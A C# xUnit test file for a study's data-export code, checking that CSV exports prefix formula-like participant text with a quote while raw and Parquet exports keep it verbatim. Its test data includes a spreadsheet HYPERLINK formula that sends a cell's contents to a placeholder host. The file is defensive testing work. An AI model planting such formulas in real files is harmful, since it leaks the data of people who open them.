using System.Text;
using Microsoft.EntityFrameworkCore;
using Parquet;
using RecoveryStudy.Exports;
using RecoveryStudy.Tests.Infrastructure;
using RecoveryStudy.Tests.Infrastructure.Builders;

namespace RecoveryStudy.Tests.Exports;

/// <summary>
/// Participant-typed text that a spreadsheet would run as a formula gets a leading ' in CSV by
/// default; numbers stay numbers; the raw option and Parquet keep the text as typed.
/// </summary>
public sealed class SpreadsheetSafetyTests(DatabaseFixture database) : IClassFixture<DatabaseFixture>, IAsyncLifetime
{
    private const string Formula = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")";
    private string study = "";

    public async Task InitializeAsync()
    {
        await using var db = database.CreateContext();
        study = (await AnalystWorld.CreateAsync(db)).Study.Code;
        // P-0001 typed these at baseline (comment, then job).
        await db.Answers.Where(a => a.TextValue == "Very useful, \"truly\"\nthanks").ExecuteUpdateAsync(s => s.SetProperty(a => a.TextValue, Formula));
        await db.Answers.Where(a => a.TextValue == "peer mentor").ExecuteUpdateAsync(s => s.SetProperty(a => a.TextValue, "-3"));
    }

    public Task DisposeAsync() => Task.CompletedTask;

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+1 555 0100 call me", "'+1 555 0100 call me")]
    [InlineData("-x", "'-x")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("-3", "-3")]
    [InlineData("+2.5", "+2.5")]
    [InlineData("a = b", "a = b")]
    [InlineData("", "")]
    [InlineData(null, null)]
    public void Text_that_a_spreadsheet_would_run_gets_a_leading_quote_and_plain_numbers_do_not(string? typed, string? written) =>
        Assert.Equal(written, SpreadsheetText.Neutralise(typed));

    [Fact]
    public async Task A_csv_export_neutralises_formula_text_by_default_and_keeps_numbers_and_missing_codes_numeric()
    {
        var csv = Csv.Parse(Encoding.UTF8.GetString(await WriteAsync(DatasetFile.TableContent, parquet: false, rawText: false)));

        Assert.Equal("'" + Formula, csv.Value("P-0001", "comment"));
        Assert.Equal("-3", csv.Value("P-0001", "job"));
        Assert.Equal("3", csv.Value("P-0001", "wb1"));
        Assert.Equal("-1", csv.Value("P-0002", "wb3"));
    }

    [Fact]
    public async Task The_raw_option_and_parquet_keep_the_text_as_typed()
    {
        var raw = Csv.Parse(Encoding.UTF8.GetString(await WriteAsync(DatasetFile.TableContent, parquet: false, rawText: true)));
        Assert.Equal(Formula, raw.Value("P-0001", "comment"));

        using var stream = new MemoryStream(await WriteAsync(DatasetFile.TableContent, parquet: true, rawText: false));
        await using var reader = await ParquetReader.CreateAsync(stream);
        using var group = reader.OpenRowGroupReader(0);
        var comments = new string?[group.RowCount];
        await group.ReadAsync(reader.Schema.GetDataFields().Single(f => f.Name == "comment"), comments.AsMemory());
        Assert.Contains(Formula, comments);
    }

    [Fact]
    public async Task The_codebook_R_script_and_SPSS_syntax_say_so_unless_the_text_is_raw()
    {
        var codebook = Csv.Parse(Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Codebook, parquet: false, rawText: false)));
        Assert.Equal(SpreadsheetText.Note, codebook.Cell(codebook.Rows.Single(r => r[0] == "comment"), "note"));
        Assert.Equal("", codebook.Cell(codebook.Rows.Single(r => r[0] == "wb1"), "note"));
        Assert.Contains(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.R, parquet: false, rawText: false)), StringComparison.Ordinal);
        Assert.Contains(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Spss, parquet: false, rawText: false)), StringComparison.Ordinal);
        Assert.Contains(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Stata, parquet: false, rawText: false)), StringComparison.Ordinal);

        var rawCodebook = Csv.Parse(Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Codebook, parquet: false, rawText: true)));
        Assert.All(rawCodebook.Rows, r => Assert.Equal("", rawCodebook.Cell(r, "note")));
        Assert.DoesNotContain(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.R, parquet: false, rawText: true)), StringComparison.Ordinal);
        Assert.DoesNotContain(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Spss, parquet: false, rawText: true)), StringComparison.Ordinal);
        Assert.DoesNotContain(SpreadsheetText.Note, Encoding.UTF8.GetString(await WriteAsync(DatasetFile.Stata, parquet: false, rawText: true)), StringComparison.Ordinal);
    }

    private async Task<byte[]> WriteAsync(string content, bool parquet, bool rawText)
    {
        await using var db = database.CreateContext();
        var layout = (await StudyLayout.LoadAsync(db, study, CancellationToken.None))!;
        var request = new ExportRequest(TableKind.Wide, "baseline");
        var (file, error) = DatasetFile.Create(layout, request, content, parquet, rawText);
        Assert.True(file is not null, error);
        await using var dataSource = database.CreateDataSource();
        using var stream = new MemoryStream();
        await file.WriteAsync(dataSource, layout, request.Filter, stream, null, CancellationToken.None);
        return stream.ToArray();
    }
}
